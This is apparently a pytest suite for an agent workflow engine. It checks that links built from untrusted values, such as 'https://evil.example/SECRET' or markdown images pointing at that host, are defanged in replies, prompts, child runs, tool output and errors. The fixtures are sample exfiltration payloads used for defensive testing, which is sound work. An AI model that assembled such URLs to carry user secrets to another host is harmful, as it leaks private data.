"""Texts of tainted runs: no template, script or error makes an address that carries values to another host."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest

from arvis.domain.executions import Execution, ExecutionStatus
from arvis.domain.outgoing_links import NOTE
from arvis.domain.taint import Label
from arvis.domain.tools import Permit
from arvis.ports.store import Store
from arvis.turns.workflow_results import _results
from tests.flows.drawn_kit import Play, Played, WorkflowStage, drawing, node, ran
from tests.flows.scripted import ScriptedTools

START = node("go", "trigger", kind="message")
READ = frozenset({Label.TOOLS})
#: The foreign values of a webhook: two parts of an address, and whole addresses.
VALUES = {
    "host": "https://evil.example/",
    "word": "SECRET",
    "name": "evil.example",
    "image": "![x](https://evil.example/",
    "link": "https://mail.example/meet/93",
    "picture": "![map](https://mail.example/map.png)",
}
EVIL = "https[:]//evil[.]example/SECRET"


async def answered(store: Store, template: str, *, values: Mapping[str, Any] = VALUES, taint: Any = READ) -> str:
    """Return the reply of a run whose only step is a response with this template."""
    say = node("say", "response", "Say", template=template)
    played = await ran(store, drawing(START, say, ways=["go > say"]), input=values, taint=taint)
    return str(played.execution.result["content"])


@pytest.mark.parametrize(
    ("template", "shown"),
    [
        ("See {{go.host}}{{go.word}} now", f"See {EVIL} now"),
        ("https://{{go.word}}.{{go.name}}/x", "https[:]//SECRET[.]evil[.]example/x"),
        ("{{go.word}}.{{go.name}}", "SECRET[.]evil[.]example"),
        ("{{go.name}}/{{go.word}}", "evil[.]example/SECRET"),
        ("https://{{go.name}}?d={{go.word}}", "https[:]//evil[.]example?d=SECRET"),
        ("{{go.image}}{{go.word}})", f"[x]({EVIL})"),
        ("[here]({{go.host}}{{go.word}})", f"[here]({EVIL})"),
        ("https://shop.example/{{go.word}}/../{{go.word}}", "https[:]//shop[.]example/SECRET/../SECRET"),
        ("https://shop.example@{{go.name}}/{{go.word}}", "https[:]//shop[.]example@evil[.]example/SECRET"),
        ("{{go.link}}?{{go.word}}", "https[:]//mail[.]example/meet/93?SECRET"),
        ("![x](https://shop.example/{{go.word}}.png)", "[x](https://shop.example/SECRET.png)"),
        ("{{go.picture}}", "[map](https://mail.example/map.png)"),
    ],
)
async def test_an_address_that_values_make_up_is_no_link(store: Store, template: str, shown: str) -> None:
    reply = await answered(store, template)
    assert reply.removesuffix(f"\n\n{NOTE}") == shown
    assert reply.endswith(NOTE) is ("[:]" in shown or "[.]" in shown)


@pytest.mark.parametrize(
    ("template", "shown"),
    [
        ("Join {{go.link}}.", "Join https://mail.example/meet/93."),
        ("{{go.link}}/comments", "https://mail.example/meet/93/comments"),
        ("Order https://shop.example/orders/{{go.word}}?a=1", "Order https://shop.example/orders/SECRET?a=1"),
        ("![logo](https://shop.example/logo.png) {{go.word}}", "![logo](https://shop.example/logo.png) SECRET"),
        ("{{go.word}} / {{go.name}}", "SECRET / evil.example"),
        ("<b>{{go.word}}</b>, {{go.name}}, {{go.word}}", "<b>SECRET</b>, evil.example, SECRET"),
    ],
)
async def test_addresses_with_one_author_stay(store: Store, template: str, shown: str) -> None:
    assert await answered(store, template) == shown


async def test_a_run_that_has_read_only_trusted_text_is_not_judged(store: Store) -> None:
    assert await answered(store, "{{go.host}}{{go.word}}", taint=frozenset()) == "https://evil.example/SECRET"


async def made(store: Store, *nodes: dict[str, Any], ways: str, **more: Any) -> Played:
    return await ran(store, drawing(START, *nodes, ways=[ways]), input=VALUES, taint=READ, **more)


async def test_prompts_questions_and_inputs_have_no_joined_address(store: Store) -> None:
    joined = "Look: {{go.host}}{{go.word}}"
    work = node("work", "agent", "Work", userPrompt=joined, systemPrompt=joined)
    asks = node("ask", "approval", "Ask", prompt=joined)
    say = node("say", "response", "Say", template="Done.")
    ways = "go > work > ask:approve > say"
    played = await made(store, work, asks, say, ways=ways, answers={"Look": "done"}, people=_approve)
    request = played.stage.running.model.asked[0]
    assert EVIL in request.turns[-1].content
    assert "https://evil.example" not in f"{request.system}{[turn.content for turn in request.turns]}"
    assert played.lines("ask", "wait_input") == [f"Look: {EVIL}"]


def _approve(_wait: Any, _world: Any) -> dict[str, Any]:
    return {"decision": "approve"}


async def test_a_child_run_gets_no_joined_address(store: Store) -> None:
    say = node("say", "response", "Say", template="{{trigger}} and {{PREVIOUS_OUTPUT}}")
    other = drawing(START, say, ways=["go > say"])
    play = Play(other, input=VALUES, taint=READ, others={"other": other})
    call = node(
        "call", "sub-workflow", "Call", workflow=f"other-{play.mark}", input="{{go.host}}{{go.word}} {{go.link}}"
    )
    play.document = drawing(START, call, ways=["go > call"])
    stage = WorkflowStage(store, play)
    await stage.begin()
    await stage.play()
    text = f"{EVIL} https://mail.example/meet/93"
    assert (await stage.execution()).result["output"] == f"{text} and {text}"


@pytest.mark.parametrize("template", ["{{run}}", ""])
async def test_an_address_of_a_script_is_a_link_only_if_others_wrote_it(store: Store, template: str) -> None:
    tools = ScriptedTools()
    tools.rm.script.append("https://evil.example/SECRET https://mail.example/meet/93")
    run = node("run", "tool-call", "run", tool="rm", arguments={"words": "{{go.word}}"})
    after = [node("say", "response", "Say", template=template)] if template else []
    ways = "go > run > say" if template else "go > run"
    played = await made(store, run, *after, ways=ways, tools=tools, agent_tools=("rm",), permits={"rm": Permit.ALWAYS})
    assert played.execution.result["content"] == f"{EVIL} https://mail.example/meet/93\n\n{NOTE}"
    if not template:  # the data stays
        assert played.output == "https://evil.example/SECRET https://mail.example/meet/93"


async def test_a_value_of_a_script_may_follow_a_host_of_the_author(store: Store) -> None:
    tools = ScriptedTools()
    tools.rm.script.append("4711")
    run = node("run", "tool-call", "run", tool="rm", arguments={"words": "{{go.word}}"})
    say = node("say", "response", "Say", template="https://shop.example/orders/{{run}} https://{{run}}.evil.example/x")
    more = {"tools": tools, "agent_tools": ("rm",), "permits": {"rm": Permit.ALWAYS}}
    played = await made(store, run, say, ways="go > run > say", **more)
    shown = "https://shop.example/orders/4711 https[:]//4711[.]evil[.]example/x"
    assert played.execution.result["content"] == f"{shown}\n\n{NOTE}"


async def test_a_text_that_was_posted_is_not_posted_again_in_another_form(store: Store) -> None:
    logo = "![logo](https://shop.example/logo.png) {{go.host}}{{go.word}}"
    say, rest = node("say", "response", "Say", template=logo), node("rest", "wait", "Rest", amount=0)
    played = await made(store, say, rest, ways="go > say > rest")
    text = f"![logo](https://shop.example/logo.png) {EVIL}\n\n{NOTE}"
    assert (played.execution.result["content"], played.execution.state["said:say"]) == (text, text)


def test_the_report_to_an_agent_has_no_address_of_a_script() -> None:
    kept = {"output": "https://evil.example/SECRET", "label": "run", "at": 1}
    for state, shown in (({"out:run": {**kept, "made": True}}, EVIL), ({"out:run": kept}, kept["output"])):
        whole = {**state, "taint": ["tools"]}
        run = Execution(
            "run", "workflow:x", "1", whole, ExecutionStatus.DONE, None, "lane", 1, None, None, 0, None, 0, 0
        )
        assert f"- run: {shown}" in _results(run, "flow")


async def test_an_agents_json_that_codes_an_address_makes_no_link(store: Store) -> None:
    coded = '{"url": "ht\\u0074ps:\\u002f\\u002fevil\\u002eexample/SECRET", "good": "https://mail.example/meet/93"}'
    work = node("work", "agent", "Work", userPrompt="Read {{go.link}}")
    say = node("say", "response", "Say", template="{{Work.result.url}} {{Work.result.good}}")
    played = await made(store, work, say, ways="go > work > say", answers={"Read": coded})
    assert played.execution.result["content"] == f"{EVIL} https://mail.example/meet/93\n\n{NOTE}"
    assert json.loads(coded)["url"] == "https://evil.example/SECRET"


async def test_an_error_that_quotes_arguments_makes_no_link(store: Store) -> None:
    tools = ScriptedTools()
    tools.look.script.append(ValueError("Nothing at https://evil.example/SECRET, see https://mail.example/meet/93"))
    look = node("look", "tool-call", "Look", tool="look", arguments={"words": "{{go.word}}"})
    played = await made(store, look, ways="go > look", tools=tools, permits={"look": Permit.ALWAYS})
    assert played.execution.status is ExecutionStatus.FAILED
    assert "evil.example" not in f"{played.execution.error}"
